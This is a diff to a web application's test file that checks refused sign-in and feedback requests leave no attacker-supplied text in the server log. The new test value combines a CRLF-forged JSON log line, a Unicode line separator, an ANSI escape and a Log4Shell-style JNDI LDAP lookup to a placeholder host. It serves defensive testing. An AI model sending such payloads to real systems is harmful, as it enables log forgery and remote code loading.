@@ -1,4 +1,4 @@
-import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
+import { afterAll, afterEach, describe, expect, test, vi } from 'vitest'
 import { requestRefusals } from '#server/http/send-async.ts'
 import { signInRefusals, type SignInRefusal } from '#server/sign-in/sign-in-log.ts'
 import { startOpenIdProvider, type ProviderChanges } from '#scripts/testing/openid-provider.ts'
@@ -17,12 +17,8 @@ type Line = Record<string, unknown>
 type Attempt = () => Promise<unknown>
 
 const times = 100
-let issuer: Awaited<ReturnType<typeof startOpenIdProvider>>
-let site: TestSite
-beforeAll(async () => {
-  issuer = await startOpenIdProvider(openIdClient)
-  site = await openTestSite({ issuer: issuer.origin, logLevel: 'info', trustedProxies: 1 })
-})
+const issuer = await startOpenIdProvider(openIdClient)
+const site = await openTestSite({ issuer: issuer.origin, logLevel: 'info', trustedProxies: 1 })
 afterAll(async () => {
   await site.close()
   await issuer.close()
@@ -54,10 +50,13 @@ function post(path: string, form: Record<string, string>, origin = site.origin) 
   return request(path, { method: 'POST', headers: { 'content-type': type, origin }, body })
 }
 
-const letter = { message: 'Secret' }
+/** What would be a line of its own, or change a terminal. */
+const secretLine =
+  'Secret\r\n{"level":60,"msg":"smuggled"}\u2028\u001b[31m${jndi:ldap://elsewhere.example}'
+const letter = { message: secretLine }
 const requestAttempts: Record<string, Attempt> = {
   'not signed in': async () => {
-    await request('/adminf83922ab/feedback?q=Secret')
+    await request(`/adminf83922ab/feedback?q=${encodeURIComponent(secretLine)}`)
     await post('/adminf83922ab/actions/events', letter)
   },
   'from another site': () => post('/feedback', letter, 'https://elsewhere.example'),
@@ -69,7 +68,7 @@ const requestAttempts: Record<string, Attempt> = {
   'too often': () => oneVisitor.request('/search?q=Secret'),
 }
 
-const junk = new URLSearchParams({ code: 'Secret', state: 'Secret' })
+const junk = new URLSearchParams({ code: secretLine, state: secretLine })
 const webView = 'Mozilla/5.0 (Linux; Android 10; K; wv) Chrome/142.0.0.0 Mobile Safari/537.36'
 
 /** Comes back from the provider, whose token is wrong like this. */
@@ -177,6 +176,6 @@ describe('a hundred times, this reason has one line a minute', () => {
   test('and nothing of what was sent', () => {
     const [first] = readLines('refused').filter(({ repeated }) => repeated)
     expect(first?.['requests']).toHaveLength(20)
-    expect(site.readLog()).not.toMatch(/Secret|elsewhere|127\.0\.0\.1|10\.0\.|192\.0|@/)
+    expect(site.readLog()).not.toMatch(/smuggled|Secret|elsewhere|127\.0\.0\.1|10\.0\.|192\.0|@/)
   })
 })
